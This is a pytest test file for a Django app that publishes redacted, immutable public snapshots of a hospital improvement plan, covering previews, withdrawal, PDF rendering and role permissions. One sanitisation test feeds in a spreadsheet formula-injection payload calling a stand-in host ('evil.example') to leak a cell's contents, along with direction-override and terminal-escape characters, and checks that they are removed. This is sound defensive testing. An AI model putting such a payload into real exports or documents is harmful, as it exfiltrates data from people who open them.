"""Public publication of a plan: prepare, preview, publish, read without sign-in, withdraw.

A publication is a frozen, redacted snapshot at its own address; later changes to the
plan never alter it, the database refuses to change it (bar storing its PDF once, which a
worker makes after publishing), and a withdrawal answers 410 Gone.
"""

from __future__ import annotations

import datetime as dt
import importlib
import re
import uuid

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import IntegrityError, connection, transaction
from django.test import TestCase
from django.urls import reverse

from actions import services as plan_services
from actions.models import ExecRole, Role, Status, WeeklyUpdate
from reporting import tasks
from reporting.models import (
    Publication,
    PublicationImmutable,
    PublicationSettings,
    PublicationWithdrawal,
)
from reporting.publication import services
from reporting.publication.content import DEFAULT_FIELDS, strings_of
from reporting.publication.glossary import DEFAULT_GLOSSARY
from tests.factories import ActionFactory, UserFactory
from tests.races import WAIT, Holder, Worker, blocked_behind

from .conftest import london, pdf_text, requires_pdftotext, travel

_guard = importlib.import_module("reporting.migrations.0003_publication")

PUBLISHED_AT = london(2026, 11, 26, 10, 0)


@pytest.fixture(autouse=True)
def frozen():
    """Thursday 26 Nov 2026 10:00; sign-ins and publications happen then unless moved."""
    with travel(PUBLISHED_AT):
        yield


@pytest.fixture
def actions(plan, lead, exec_lead):
    don = ExecRole.objects.get(code="DoN")
    m1 = ActionFactory(
        plan=plan,
        ref="M1",
        kind="must",
        department="Maternity",
        requirement="Ensure every midwife completes CTG training.",
        action_lead=lead,
        status=Status.AMBER,
    )
    m1.exec_roles.set([don])
    s1 = ActionFactory(
        plan=plan,
        ref="S1",
        kind="should",
        requirement="Review the discharge lounge staffing.",
        action_lead=lead,
        status=Status.GREEN,
    )
    return [m1, s1]


def glossary_post(rows: list[dict[str, str]], extra: int = 0) -> dict[str, str]:
    data = {
        "glossary-TOTAL_FORMS": str(len(rows) + extra),
        "glossary-INITIAL_FORMS": str(len(rows)),
        "glossary-MIN_NUM_FORMS": "0",
        "glossary-MAX_NUM_FORMS": "300",
    }
    for n, row in enumerate(rows):
        data[f"glossary-{n}-term"] = row["term"]
        data[f"glossary-{n}-definition"] = row["definition"]
    return data


def prepare_post(fields=None, highlights="", challenges="", glossary=None) -> dict:
    data = {
        "shown": list(DEFAULT_FIELDS if fields is None else fields),
        "highlights": highlights,
        "challenges": challenges,
    }
    data.update(glossary_post(DEFAULT_GLOSSARY if glossary is None else glossary))
    return data


def save_settings(plan, pmo, **kwargs):
    return services.publication_settings_save(
        plan=plan,
        by=pmo,
        fields=kwargs.get("fields", DEFAULT_FIELDS),
        highlights=kwargs.get("highlights", "Every midwife is now booked on CTG training."),
        challenges=kwargs.get("challenges", "Recruitment to the discharge lounge is slow."),
        glossary=kwargs.get("glossary", DEFAULT_GLOSSARY),
    )


def publish(plan, pmo, at=PUBLISHED_AT) -> Publication:
    """Publish, then run what waits for the commit: the task making the PDF (eagerly)."""
    with travel(at), TestCase.captureOnCommitCallbacks(execute=True):
        publication = services.publication_create(plan=plan, by=pmo, token=uuid.uuid4())
    return Publication.objects.get(pk=publication.pk)


def preview_tokens(response) -> dict[str, str]:
    html = response.content.decode()
    return {
        name: re.search(rf'name="{name}" value="([^"]+)"', html).group(1)
        for name in ("token", "digest")
    }


# The PMO's flow ------------------------------------------------------------------------


def test_pmo_prepares_previews_publishes_and_the_public_reads_it_without_sign_in(
    client, plan, pmo, actions
):
    client.force_login(pmo)
    plan_page = client.get(reverse("plan", args=[plan.pk]))
    assert reverse("plan_publications", args=[plan.pk]) in plan_page.content.decode()

    form = client.get(reverse("publication_prepare", args=[plan.pk]))
    assert form.status_code == 200
    assert 'value="Section 29A"' in form.content.decode()  # DOMAIN.md's words to start from

    saved = client.post(
        reverse("publication_prepare", args=[plan.pk]),
        prepare_post(
            highlights="All midwives booked on CTG training.",
            challenges="Discharge lounge recruitment is slow.",
            glossary=[*DEFAULT_GLOSSARY, {"term": "CTG", "definition": "Cardiotocography."}],
        ),
    )
    assert saved.status_code == 302
    assert saved["Location"] == reverse("publication_preview", args=[plan.pk])

    preview = client.get(saved["Location"])
    assert preview.status_code == 200
    assert "Preview: not yet published" in preview.content.decode()
    assert "no-store" in preview["Cache-Control"]
    with TestCase.captureOnCommitCallbacks(execute=True) as queued:
        done = client.post(reverse("publication_publish", args=[plan.pk]), preview_tokens(preview))
    assert len(queued) == 1  # the PDF, made by the worker

    assert done.status_code == 302
    assert done["Location"] == reverse("plan_publications", args=[plan.pk])
    publication = Publication.objects.get()
    assert (publication.number, publication.published_by, publication.slug) == (
        1,
        pmo,
        "cqc-improvement-plan-2026",
    )
    assert publication.published_at == PUBLISHED_AT
    assert bytes(publication.pdf).startswith(b"%PDF")

    client.logout()
    page = client.get("/public/plans/cqc-improvement-plan-2026/1/")
    assert page.status_code == 200
    html = page.content.decode()
    for text in (
        "CQC improvement plan 2026",
        "published 26 November 2026",
        "All midwives booked on CTG training.",
        "Discharge lounge recruitment is slow.",
        "Ensure every midwife completes CTG training.",
        "Director of Nursing (DoN)",
        "Action lead (Maternity)",
        "Cardiotocography.",
        "Glossary and jargon buster",
    ):
        assert text in html, text
    # Musts before shoulds (seed 002).
    assert html.index("M1: Must do") < html.index("S1: Should do")
    assert "Sign out" not in html and reverse("login") not in html
    assert "default-src 'self'" in page["Content-Security-Policy"]
    assert page["X-Frame-Options"] == "DENY"
    assert "no-cache" in page["Cache-Control"] and "public" in page["Cache-Control"]


def test_narratives_are_left_out_unless_the_pmo_chooses_them(plan, pmo, actions, lead):
    m1 = actions[0]
    period = plan_services.period_current_row(plan=plan, now=london(2026, 11, 16, 9))
    plan_services.update_submit(
        action=m1,
        period=period,
        author=lead,
        status=Status.AMBER,
        narrative="Two trainers off sick; catch-up sessions booked.",
        now=london(2026, 11, 16, 10),
    )
    assert "latest_update" not in DEFAULT_FIELDS
    save_settings(plan, pmo)
    default = publish(plan, pmo)
    save_settings(plan, pmo, fields=[*DEFAULT_FIELDS, "latest_update"])
    chosen = publish(plan, pmo, at=PUBLISHED_AT + dt.timedelta(hours=1))

    assert "catch-up sessions" not in str(default.content)
    assert "latest_update" not in default.content["actions"][0]
    assert chosen.content["actions"][0]["latest_update"]["narrative"] == (
        "Two trainers off sick; catch-up sessions booked."
    )


# Characters that must not reach the public: controls (but tab and line breaks), direction
# overrides, zero-width characters, soft hyphens and byte-order marks.
UNSAFE = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\u00ad\u200b-\u200f\u202a-\u202e"
    "\u2060-\u2064\u2066-\u2069\ufeff]"
)


@requires_pdftotext
def test_control_and_invisible_characters_come_out_of_the_public_page_and_pdf(
    client, plan, pmo, actions, lead, tmp_path
):
    m1 = actions[0]
    m1.requirement = (
        '\x01=HYPERLINK("http://evil.example/?"&A1,"click") CTG\u202e\x1b[31m training.'
    )
    m1.save()
    period = plan_services.period_current_row(plan=plan, now=london(2026, 11, 16, 9))
    update = plan_services.update_submit(
        action=m1,
        period=period,
        author=lead,
        status=Status.AMBER,
        narrative="Trainer off sick; sessions moved to next week.",
        now=london(2026, 11, 16, 10),
    )
    # As an older release could have stored it: a name cut by invisible characters.
    WeeklyUpdate.objects.filter(pk=update.pk).update(
        narrative="Chased by Hel\u200ben Car\u00adter\u200d\x07 today.\ufeff"
    )
    save_settings(
        plan, pmo, fields=[*DEFAULT_FIELDS, "latest_update"], highlights="Training\x0c booked."
    )
    publication = publish(plan, pmo)

    strings = strings_of(publication.content)
    assert not [s for s in strings if UNSAFE.search(s)]
    m1_row = publication.content["actions"][0]
    assert m1_row["requirement"] == '=HYPERLINK("[link removed]?"&A1,"click") CTG[31m training.'
    assert m1_row["latest_update"]["narrative"] == "Chased by Director of Nursing (DoN) today."
    assert publication.content["summary"]["highlights"] == "Training booked."
    html = client.get(publication.get_absolute_url()).content.decode()
    text = pdf_text(bytes(publication.pdf), tmp_path).replace("\f", "\n")  # page breaks
    for shown in (html, text):
        assert not UNSAFE.search(shown)
        assert "Helen" not in shown and "Carter" not in shown
    assert "Chased by Director of Nursing (DoN) today." in text
    assert "Training booked." in text


def test_a_double_click_on_publish_makes_one_publication(client, plan, pmo, actions):
    save_settings(plan, pmo)
    client.force_login(pmo)
    preview = client.get(reverse("publication_preview", args=[plan.pk]))
    tokens = preview_tokens(preview)

    first = client.post(reverse("publication_publish", args=[plan.pk]), tokens)
    second = client.post(reverse("publication_publish", args=[plan.pk]), tokens)

    assert first.status_code == second.status_code == 302
    assert first["Location"] == second["Location"] == reverse("plan_publications", args=[plan.pk])
    assert Publication.objects.count() == 1


def test_publishing_refuses_a_preview_the_plan_has_changed_since(client, plan, pmo, actions):
    save_settings(plan, pmo)
    client.force_login(pmo)
    tokens = preview_tokens(client.get(reverse("publication_preview", args=[plan.pk])))
    plan_services.action_edit(
        action=actions[0], by=pmo, base_version=None, requirement="A new requirement text."
    )

    refused = client.post(reverse("publication_publish", args=[plan.pk]), tokens)

    assert refused.status_code == 422
    assert "The plan changed after your preview" in refused.content.decode()
    assert "A new requirement text." in refused.content.decode()  # the fresh preview
    assert not Publication.objects.exists()


def test_bad_glossary_rows_are_refused_and_nothing_is_saved(client, plan, pmo, actions):
    client.force_login(pmo)
    rows = [
        {"term": "CQC", "definition": ""},
        {"term": "", "definition": "A meaning with no term."},
        {"term": "PMO", "definition": "Programme office."},
        {"term": "pmo", "definition": "Again."},
    ]

    response = client.post(
        reverse("publication_prepare", args=[plan.pk]), prepare_post(glossary=rows)
    )

    assert response.status_code == 422
    html = response.content.decode()
    assert "Glossary row 1: enter what “CQC” means." in html
    assert "Glossary row 2: enter the term" in html
    assert "Glossary row 4: “pmo” is already in the glossary." in html
    assert not PublicationSettings.objects.exists()


def test_settings_are_kept_for_the_next_publication(client, plan, pmo, actions):
    client.force_login(pmo)
    rows = [{"term": "CTG", "definition": "Cardiotocography."}]
    client.post(
        reverse("publication_prepare", args=[plan.pk]),
        prepare_post(fields=["status"], highlights="Good quarter.", glossary=rows),
    )

    again = client.get(reverse("publication_prepare", args=[plan.pk])).content.decode()

    assert 'value="CTG"' in again and "Good quarter." in again
    assert 'value="Section 29A"' not in again  # the PMO removed the defaults
    saved = PublicationSettings.objects.get()
    assert saved.fields == ["status"] and saved.glossary == rows


# Frozen snapshots, each at its own address ----------------------------------------------


def test_each_snapshot_keeps_its_address_and_content_when_the_plan_changes(
    client, plan, pmo, actions
):
    save_settings(plan, pmo)
    first = publish(plan, pmo)
    plan_services.action_edit(
        action=actions[0], by=pmo, base_version=None, requirement="Rewritten after publication."
    )
    plan.name = "Renamed plan"
    plan.save()
    second = publish(plan, pmo, at=PUBLISHED_AT + dt.timedelta(days=91))

    one = client.get(first.get_absolute_url()).content.decode()
    two = client.get(second.get_absolute_url()).content.decode()

    assert (first.number, second.number) == (1, 2)
    assert first.get_absolute_url() == "/public/plans/cqc-improvement-plan-2026/1/"
    assert second.get_absolute_url() == "/public/plans/cqc-improvement-plan-2026/2/"
    assert "Ensure every midwife completes CTG training." in one
    assert "Rewritten after publication." not in one and "Renamed plan" not in one
    assert "Rewritten after publication." in two and "Renamed plan" in two
    assert "published 26 November 2026" in one and "published 25 February 2027" in two


def test_the_public_list_shows_current_publications_newest_first(client, plan, pmo, actions):
    save_settings(plan, pmo)
    first = publish(plan, pmo)
    second = publish(plan, pmo, at=PUBLISHED_AT + dt.timedelta(days=91))
    third = publish(plan, pmo, at=PUBLISHED_AT + dt.timedelta(days=182))
    services.publication_withdraw(publication=second, by=pmo, reason="Wrong quarter")

    html = client.get("/public/plans/cqc-improvement-plan-2026/").content.decode()

    assert html.index(third.get_absolute_url()) < html.index(first.get_absolute_url())
    assert second.get_absolute_url() not in html
    assert client.get("/public/plans/no-such-plan/").status_code == 404
    assert client.get("/public/plans/cqc-improvement-plan-2026/9/").status_code == 404


def test_publication_rows_cannot_be_changed_or_deleted(plan, pmo, actions):
    save_settings(plan, pmo)
    publication = publish(plan, pmo)
    withdrawal = services.publication_withdraw(publication=publication, by=pmo, reason="Typo")

    with pytest.raises(PublicationImmutable):
        Publication.objects.filter(pk=publication.pk).update(title="Rewritten")
    with pytest.raises(PublicationImmutable):
        Publication.objects.all().delete()
    with pytest.raises(PublicationImmutable):
        PublicationWithdrawal.objects.all().delete()
    publication.title = "Rewritten"
    with pytest.raises(IntegrityError, match="Publications cannot be changed or deleted"):
        with transaction.atomic():
            publication.save()
    with pytest.raises(IntegrityError, match="Publications cannot be changed or deleted"):
        with transaction.atomic():
            withdrawal.delete()
    for table in _guard.TABLES:
        with pytest.raises(IntegrityError):
            with transaction.atomic(), connection.cursor() as cursor:
                cursor.execute(f"DELETE FROM {table}")  # noqa: S608

    fresh = Publication.objects.get(pk=publication.pk)
    assert fresh.title == "CQC improvement plan 2026: improvement plan for the public"
    assert PublicationWithdrawal.objects.filter(pk=withdrawal.pk).exists()


def test_the_guard_is_installed_on_this_database(db):
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute(
                "SELECT tgname FROM pg_trigger WHERE NOT tgisinternal AND tgrelid IN "
                "('reporting_publication'::regclass, 'reporting_publicationwithdrawal'::regclass)"
                " ORDER BY tgname"
            )
            expected = sorted(f"{t}_immutable" for t in _guard.TABLES)
        else:
            cursor.execute(
                "SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name IN "
                "('reporting_publication', 'reporting_publicationwithdrawal') ORDER BY name"
            )
            expected = sorted(f"{t}_no_{op}" for t in _guard.TABLES for op in ("update", "delete"))
        assert [r[0] for r in cursor.fetchall()] == expected


# Withdrawal ----------------------------------------------------------------------------


def test_withdrawn_publication_answers_410_without_its_content(client, plan, pmo, actions):
    save_settings(plan, pmo)
    publication = publish(plan, pmo)
    kept = publish(plan, pmo, at=PUBLISHED_AT + dt.timedelta(days=1))
    client.force_login(pmo)
    url = reverse("publication_withdraw", args=[publication.pk])

    blank = client.post(url, {"reason": "  "})
    assert blank.status_code == 422
    assert not PublicationWithdrawal.objects.exists()

    with travel(PUBLISHED_AT + dt.timedelta(days=2)):
        client.force_login(pmo)
        done = client.post(url, {"reason": "Published the wrong quarter"})
    assert done.status_code == 302
    assert done["Location"] == reverse("plan_publications", args=[plan.pk])
    client.logout()

    page = client.get(publication.get_absolute_url())
    pdf = client.get(reverse("publication_public_pdf", args=[publication.slug, 1]))
    assert page.status_code == pdf.status_code == 410
    html = page.content.decode()
    assert "This publication has been withdrawn" in html and "28 November 2026" in html
    assert "CTG training" not in html and "Published the wrong quarter" not in html
    assert pdf["Content-Type"].startswith("text/html") and b"%PDF" not in pdf.content
    assert "no-cache" in page["Cache-Control"]
    assert client.get(kept.get_absolute_url()).status_code == 200
    # Withdrawing twice is the first withdrawal, not a second record.
    again = services.publication_withdraw(publication=publication, by=pmo, reason="Again")
    assert again.reason == "Published the wrong quarter"
    assert PublicationWithdrawal.objects.count() == 1


@requires_pdftotext
def test_the_pdf_is_served_without_sign_in_as_stored(client, plan, pmo, actions, tmp_path):
    save_settings(plan, pmo)
    publication = publish(plan, pmo)

    response = client.get(reverse("publication_public_pdf", args=[publication.slug, 1]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert (
        'filename="cqc-improvement-plan-2026-1-2026-11-26.pdf"' in (response["Content-Disposition"])
    )
    assert response.content == bytes(publication.pdf)
    text = pdf_text(response.content, tmp_path)
    assert "Ensure every midwife completes CTG training." in text
    assert "Glossary and jargon buster" in text
    assert "Published 26 November 2026" in text


# Who may do what -----------------------------------------------------------------------


@pytest.fixture
def refused_users(lead, board, exec_lead):
    reviewer = UserFactory(username="reviewer", roles=[Role.REVIEWER])
    outsider = UserFactory(username="outsider")
    return [lead, board, exec_lead, reviewer, outsider]


def test_only_the_pmo_prepares_publishes_or_withdraws(client, plan, pmo, actions, refused_users):
    save_settings(plan, pmo)
    publication = publish(plan, pmo)
    token = {"token": str(uuid.uuid4()), "digest": "x" * 64}
    pages = [
        ("get", reverse("plan_publications", args=[plan.pk]), {}),
        ("get", reverse("publication_prepare", args=[plan.pk]), {}),
        ("post", reverse("publication_prepare", args=[plan.pk]), prepare_post(highlights="X")),
        ("get", reverse("publication_preview", args=[plan.pk]), {}),
        ("post", reverse("publication_publish", args=[plan.pk]), token),
        ("get", reverse("publication_withdraw", args=[publication.pk]), {}),
        ("post", reverse("publication_withdraw", args=[publication.pk]), {"reason": "No"}),
    ]
    for user in refused_users:
        client.force_login(user)
        for method, url, data in pages:
            assert getattr(client, method)(url, data).status_code == 403, (user, url)
    client.logout()
    for method, url, data in pages:
        response = getattr(client, method)(url, data)
        assert response.status_code == 302 and reverse("login") in response["Location"], url

    assert Publication.objects.count() == 1
    assert not PublicationWithdrawal.objects.exists()
    assert PublicationSettings.objects.get().highlights != "X"
    for user in refused_users:
        with pytest.raises(PermissionDenied):
            services.publication_create(plan=plan, by=user, token=uuid.uuid4())
        with pytest.raises(PermissionDenied):
            services.publication_withdraw(publication=publication, by=user, reason="No")


def test_the_plan_page_offers_publishing_to_the_pmo_only(client, plan, pmo, board, actions):
    link = reverse("plan_publications", args=[plan.pk])
    client.force_login(board)
    assert link not in client.get(reverse("plan", args=[plan.pk])).content.decode()
    client.force_login(pmo)
    assert link in client.get(reverse("plan", args=[plan.pk])).content.decode()


def test_publishing_needs_saved_settings(plan, pmo, actions):
    with pytest.raises(ValidationError, match="Choose what to publish first"):
        services.publication_create(plan=plan, by=pmo, token=uuid.uuid4())
    assert not Publication.objects.exists()


def test_history_does_not_bring_back_narratives_left_out(plan, pmo, actions, lead):
    period = plan_services.period_current_row(plan=plan, now=london(2026, 11, 16, 9))
    plan_services.update_submit(
        action=actions[0],
        period=period,
        author=lead,
        status=Status.AMBER,
        narrative="Internal: trainers off sick.",
        now=london(2026, 11, 16, 10),
    )
    plan_services.action_edit(
        action=actions[0], by=pmo, base_version=None, end_date=dt.date(2027, 3, 31)
    )
    save_settings(plan, pmo, fields=[*DEFAULT_FIELDS, "history"])

    publication = publish(plan, pmo)

    history = publication.content["actions"][0]["history"]
    assert [h["what"] for h in history] == ["Changed"]
    assert "trainers off sick" not in str(publication.content)


# Two publishes at once, on the real PostgreSQL --------------------------------------------


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("same_preview", [True, False], ids=["double-click", "two-previews"])
def test_two_publishes_at_once_queue_on_the_plan(race, plan, pmo, actions, same_preview):
    """A double click publishes once; two separate previews publish 1 and 2, never a clash."""
    save_settings(plan, pmo)
    tokens = [uuid.uuid4()] * 2 if same_preview else [uuid.uuid4(), uuid.uuid4()]
    first = race(Holder(lambda: services.publication_create(plan=plan, by=pmo, token=tokens[0])))
    second = race(Worker(lambda: services.publication_create(plan=plan, by=pmo, token=tokens[1])))
    blocked_behind(second, first)
    first.commit()
    second.join(WAIT)

    assert second.error is None, second.error
    if same_preview:
        assert first.result.pk == second.result.pk
        assert Publication.objects.count() == 1
    else:
        assert sorted(Publication.objects.values_list("number", flat=True)) == [1, 2]


# The PDF, made by a worker after publishing ----------------------------------------------


def test_the_page_works_at_once_and_the_pdf_address_says_wait_until_it_is_made(
    client, plan, pmo, actions
):
    save_settings(plan, pmo)
    with TestCase.captureOnCommitCallbacks(execute=False) as queued:
        publication = services.publication_create(plan=plan, by=pmo, token=uuid.uuid4())
    pdf_url = reverse("publication_public_pdf", args=[publication.slug, 1])
    assert Publication.objects.filter(pk=publication.pk, pdf__isnull=True).exists()

    page = client.get(publication.get_absolute_url())
    assert page.status_code == 200
    html = page.content.decode()
    assert "Ensure every midwife completes CTG training." in html
    assert "A PDF of this plan is being prepared" in html and pdf_url not in html
    listed = client.get(reverse("publication_public_list", args=[publication.slug]))
    assert "PDF being prepared" in listed.content.decode()
    assert pdf_url not in listed.content.decode()
    waiting = client.get(pdf_url)
    assert waiting.status_code == 202
    assert waiting["Retry-After"] == "60"
    assert waiting["Content-Type"].startswith("text/html")
    assert "no-store" in waiting["Cache-Control"]
    assert "The PDF of this plan is being prepared; try again in a minute." in (
        waiting.content.decode()
    )

    for callback in queued:  # the worker's turn (Celery runs eagerly in the tests)
        callback()

    ready = client.get(pdf_url)
    assert ready.status_code == 200 and ready.content.startswith(b"%PDF")
    html = client.get(publication.get_absolute_url()).content.decode()
    assert pdf_url in html and "being prepared" not in html
    assert (
        pdf_url
        in client.get(reverse("publication_public_list", args=[publication.slug])).content.decode()
    )


def test_a_pdf_lost_on_the_way_is_made_by_the_next_sweep(plan, pmo, actions):
    """A worker killed before it stored the PDF: the sweep queues it again, once it is late."""
    save_settings(plan, pmo)
    with travel(PUBLISHED_AT), TestCase.captureOnCommitCallbacks(execute=False):
        publication = services.publication_create(plan=plan, by=pmo, token=uuid.uuid4())
    missing = Publication.objects.filter(pk=publication.pk, pdf__isnull=True)

    with travel(PUBLISHED_AT + dt.timedelta(minutes=5)):
        assert tasks.sweep()["publication_pdfs_requeued"] == []
    assert missing.exists()

    with travel(PUBLISHED_AT + dt.timedelta(minutes=11)):
        assert tasks.sweep()["publication_pdfs_requeued"] == [publication.pk]
    assert not missing.exists()
    with travel(PUBLISHED_AT + dt.timedelta(minutes=13)):
        assert tasks.sweep()["publication_pdfs_requeued"] == []


def test_the_sweep_leaves_withdrawn_and_day_old_publications_without_a_pdf(plan, pmo, actions):
    save_settings(plan, pmo)
    with travel(PUBLISHED_AT), TestCase.captureOnCommitCallbacks(execute=False):
        first = services.publication_create(plan=plan, by=pmo, token=uuid.uuid4())
        second = services.publication_create(plan=plan, by=pmo, token=uuid.uuid4())
        services.publication_withdraw(publication=first, by=pmo, reason="Wrong plan year.")

    with travel(PUBLISHED_AT + dt.timedelta(days=1, minutes=1)):
        assert tasks.sweep()["publication_pdfs_requeued"] == []
    assert Publication.objects.filter(pk__in=[first.pk, second.pk], pdf__isnull=True).count() == 2


def test_making_the_pdf_twice_stores_it_once(plan, pmo, actions):
    save_settings(plan, pmo)
    publication = publish(plan, pmo)
    stored = bytes(publication.pdf)

    assert services.publication_pdf_render(publication_id=publication.pk) is False
    assert tasks.render_pdf_publication(publication.pk) is False
    assert bytes(Publication.objects.get(pk=publication.pk).pdf) == stored


def test_the_pdf_task_is_routed_to_the_pdf_queue():
    from improvement.celery import app

    route = app.amqp.router.route({}, tasks.render_pdf_publication.name)
    assert route["queue"].name == "pdf"


def _raw_update(sql: str, params: list) -> None:
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(sql, params)


def test_the_database_lets_the_pdf_be_stored_once_and_nothing_else(plan, pmo, actions):
    save_settings(plan, pmo)
    with TestCase.captureOnCommitCallbacks(execute=False):
        publication = services.publication_create(plan=plan, by=pmo, token=uuid.uuid4())
    table = "reporting_publication"
    refused = "Publications cannot be changed or deleted"

    # Storing the PDF together with any other change is refused, even while it is missing.
    with pytest.raises(IntegrityError, match=refused):
        _raw_update(
            f"UPDATE {table} SET pdf = %s, title = %s WHERE id = %s",  # noqa: S608
            [b"%PDF-1.7 x", "Rewritten", publication.pk],
        )
    with pytest.raises(IntegrityError, match=refused):
        _raw_update(
            f"UPDATE {table} SET title = %s WHERE id = %s",  # noqa: S608
            ["Rewritten", publication.pk],
        )
    # The PDF alone, where there was none: allowed, once.
    assert Publication.objects.store_pdf(pk=publication.pk, pdf=b"%PDF-1.7 first") is True
    assert Publication.objects.store_pdf(pk=publication.pk, pdf=b"%PDF-1.7 second") is False
    for sql, params in (
        (f"UPDATE {table} SET pdf = %s WHERE id = %s", [b"%PDF-1.7 other", publication.pk]),
        (f"UPDATE {table} SET pdf = NULL WHERE id = %s", [publication.pk]),
    ):
        with pytest.raises(IntegrityError, match=refused):
            _raw_update(sql, params)
    with pytest.raises(PublicationImmutable):
        Publication.objects.filter(pk=publication.pk).update(pdf=b"%PDF-1.7 third")

    fresh = Publication.objects.get(pk=publication.pk)
    assert bytes(fresh.pdf) == b"%PDF-1.7 first"
    assert fresh.title == "CQC improvement plan 2026: improvement plan for the public"


def test_the_sqlite_guard_checks_every_column_but_the_pdf(db):
    """A column added to the table must be added to the guard's list, or this fails."""
    columns = {f.column for f in Publication._meta.concrete_fields}
    assert set(_guard.FROZEN_COLUMNS) == columns - {"pdf"}


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_workers_storing_the_pdf_at_once_store_it_once(race, plan, pmo, actions, monkeypatch):
    """The task delivered twice (acks late): the second store waits, then finds the PDF."""
    save_settings(plan, pmo)
    queued = []
    monkeypatch.setattr(tasks.render_pdf_publication, "delay", queued.append)
    publication = services.publication_create(plan=plan, by=pmo, token=uuid.uuid4())
    assert queued == [publication.pk]  # queued at the commit; no worker has run it
    Publication.objects.filter(pk=publication.pk, pdf__isnull=True).get()
    first = race(Holder(lambda: Publication.objects.store_pdf(pk=publication.pk, pdf=b"one")))
    second = race(Worker(lambda: Publication.objects.store_pdf(pk=publication.pk, pdf=b"two")))
    blocked_behind(second, first)
    first.commit()
    second.join(WAIT)

    assert second.error is None, second.error
    assert (first.result, second.result) == (True, False)
    assert bytes(Publication.objects.get(pk=publication.pk).pdf) == b"one"
